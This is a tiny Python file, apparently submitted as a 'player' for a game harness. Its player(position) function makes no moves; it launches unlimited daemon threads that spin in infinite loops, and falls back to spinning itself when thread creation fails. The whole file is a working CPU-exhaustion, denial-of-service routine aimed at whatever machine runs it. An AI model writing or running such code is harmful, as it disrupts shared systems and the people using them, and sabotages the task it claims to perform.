"""Starts threads that burn the processor, as many as it gets."""

import threading


def burn():
    while True:
        pass


def player(position):
    while True:
        try:
            threading.Thread(target=burn, daemon=True).start()
        except RuntimeError:
            burn()
